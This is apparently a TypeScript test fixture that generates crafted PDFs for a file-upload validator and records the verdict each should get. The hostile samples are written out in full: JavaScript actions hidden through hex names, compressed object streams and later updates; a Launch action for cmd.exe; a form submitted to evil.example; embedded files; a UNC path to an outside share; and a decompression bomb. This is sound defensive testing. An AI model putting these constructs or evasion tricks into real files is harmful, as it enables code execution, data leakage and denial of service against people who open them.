import { deflateSync } from 'node:zlib'

const script = '<</S/JavaScript/JS(app.alert(1))>>'

/** A PDF of one empty page with `extra` in its catalog, and `objects` and `after` behind its own. */
export const pdf = (extra = '', after = '', { page = '', objects = '' }: { page?: string; objects?: string } = {}): Buffer =>
  Buffer.from(
    `%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R ${extra}>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${page}>>\nendobj\n${objects}xref\n0 4\ntrailer\n<</Root 1 0 R/Size 4>>\nstartxref\n190\n%%EOF\n${after}`,
    'latin1',
  )

/** One object, packed into a stream of objects whose dictionary and beginning are written as told. */
function hidden(content: string, { type = '/Type/ObjStm', pad = '', before = '' } = {}): string {
  const packed = deflateSync(Buffer.from(content, 'latin1')).toString('latin1')
  return `8 0 obj\n<<${type}/N 1/First 4/Filter/FlateDecode${pad}/Length ${packed.length}>>\n${before}stream\n${packed}\nendstream\nendobj\n`
}
const inStream = (content: string, options: Parameters<typeof hidden>[1] = {}, extra = '/OpenAction 9 0 R') =>
  pdf(extra, '', { objects: hidden(content, options) })

const megabyte = 1024 * 1024
const packedXfa = deflateSync(Buffer.from('<xdp><script contentType="application/x-javascript">app.alert(1)</script></xdp>')).toString(
  'latin1',
)

/** PDFs that act, hide that they act, or take long to check; `accepted` ones are kept without what they do. */
export const pdfCorpus: readonly { what: string; body: Buffer; expect: string; large?: true }[] = [
  { what: 'a PDF', body: pdf(), expect: 'accepted' },
  { what: 'PDF with JavaScript', body: pdf(`/OpenAction${script}`), expect: 'file_pdf_unsafe' },
  { what: 'PDF with JavaScript spelt in hex', body: pdf('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>'), expect: 'file_pdf_unsafe' },
  { what: 'PDF with JavaScript in a packed stream', body: inStream(`9 0 ${script}`), expect: 'file_pdf_unsafe' },
  {
    what: 'PDF with JavaScript in a packed stream whose type is spelt in hex',
    body: inStream(`9 0 ${script}`, { type: '/Type /Obj#53tm' }),
    expect: 'file_pdf_unsafe',
  },
  {
    what: 'PDF with JavaScript in a packed stream behind a long dictionary',
    body: inStream(`9 0 ${script}`, { pad: `/Pad(${'x'.repeat(5000)})` }),
    expect: 'file_pdf_unsafe',
  },
  {
    what: 'PDF with JavaScript in a packed stream behind a comment',
    body: inStream(`9 0 ${script}`, { before: '% nothing to see\n' }),
    expect: 'file_pdf_unsafe',
  },
  {
    what: 'PDF with JavaScript in a packed stream behind a comment that nothing names',
    body: inStream(`9 0 ${script}`, { before: '% nothing to see\n' }, ''),
    expect: 'file_pdf_unsafe',
  },
  {
    what: 'PDF with a form of XFA in a packed stream',
    body: pdf('/AcroForm<</XFA 9 0 R/Fields[]>>', '', {
      objects: `9 0 obj\n<</Filter/FlateDecode/Length ${packedXfa.length}>>\nstream\n${packedXfa}\nendstream\nendobj\n`,
    }),
    expect: 'file_pdf_unsafe',
  },
  {
    what: 'PDF with JavaScript in an object nobody names',
    body: pdf('', '', { objects: `9 0 obj\n${script}\nendobj\n` }),
    expect: 'file_pdf_unsafe',
  },
  { what: 'PDF with JavaScript for when a page opens', body: pdf('', '', { page: `/AA<</O${script}>>` }), expect: 'file_pdf_unsafe' },
  {
    what: 'PDF with JavaScript behind a harmless action',
    body: pdf(`/OpenAction<</S/URI/URI(https://a.example)/Next${script}>>`),
    expect: 'file_pdf_unsafe',
  },
  {
    what: 'PDF with JavaScript added to it later',
    body: pdf(
      '',
      `1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction${script}>>\nendobj\nxref\n0 1\ntrailer\n<</Root 1 0 R/Size 4/Prev 190>>\nstartxref\n400\n%%EOF\n`,
    ),
    expect: 'file_pdf_unsafe',
  },
  { what: 'PDF that starts a program', body: pdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), expect: 'file_pdf_unsafe' },
  { what: 'PDF that opens a file inside it', body: pdf('/OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>'), expect: 'file_pdf_unsafe' },
  { what: 'PDF that sends a form', body: pdf('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'), expect: 'file_pdf_unsafe' },
  { what: 'PDF with an attachment', body: pdf('/Names<</EmbeddedFiles 4 0 R>>'), expect: 'file_pdf_unsafe' },
  {
    what: 'PDF with an attachment on its page',
    body: pdf('', '', { page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)/EF<</F 9 0 R>>>>>>]' }),
    expect: 'file_pdf_unsafe',
  },
  { what: 'PDF with a film', body: pdf('', '', { page: '/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]' }), expect: 'file_pdf_unsafe' },
  {
    what: 'PDF with a password',
    body: Buffer.from(pdf().toString('latin1').replace('/Size 4', '/Size 4/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(x)/P -4>>'), 'latin1'),
    expect: 'file_pdf_unsafe|file_corrupt',
  },
  { what: 'PDF that opens at its page', body: pdf('/OpenAction[3 0 R/Fit]'), expect: 'accepted' },
  {
    what: 'PDF with a link',
    body: pdf('', '', { page: '/Annots[<</Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(https://evil.example)>>>>]' }),
    expect: 'accepted',
  },
  {
    what: 'PDF whose picture lies in another file',
    body: pdf('', '', {
      page: '/Resources<</XObject<</A 9 0 R>>>>',
      objects: '9 0 obj\n<</Type/XObject/Subtype/Image/Width 1/Height 1/F(\\\\\\\\evil\\\\share)/Length 0>>\nstream\n\nendstream\nendobj\n',
    }),
    expect: 'accepted',
  },
  {
    what: 'PDF whose pages run in a circle',
    body: Buffer.from(pdf().toString('latin1').replace('/Kids[3 0 R]', '/Kids[2 0 R]'), 'latin1'),
    expect: 'file_corrupt',
  },
  { what: 'PDF without pages', body: Buffer.from(pdf().toString('latin1').replace('/Pages 2 0 R', ''), 'latin1'), expect: 'file_corrupt' },
  { what: 'PDF of lists a hundred thousand deep', body: pdf(`/X${'['.repeat(100_000)}`), expect: 'file_corrupt|file_too_complex|accepted' },
  {
    what: 'PDF of 1.9 MB of names in hex',
    body: pdf(`/X[${'/#4a#4a'.repeat(Math.floor((1.9 * megabyte) / 7))}]`),
    expect: 'accepted|file_too_complex',
  },
  {
    what: 'PDF of 1.9 MB that names packed streams',
    body: pdf(`/X[${'/ObjStm '.repeat(Math.floor((1.9 * megabyte) / 8))}]`),
    expect: 'accepted|file_too_complex',
  },
  {
    what: 'PDF of 1.9 MB that begins objects',
    large: true,
    body: pdf('', '', { objects: '9 0 obj\n'.repeat(Math.floor((1.9 * megabyte) / 8)) }),
    expect: 'accepted|file_corrupt|file_too_complex',
  },
  {
    what: 'PDF with a bomb in a packed stream',
    large: true,
    body: inStream(`9 0 ${' '.repeat(64 * megabyte)}`, {}, ''),
    expect: 'accepted|file_corrupt|file_too_complex',
  },
  { what: 'PDF cut off', body: pdf().subarray(0, 120), expect: 'file_corrupt' },
]
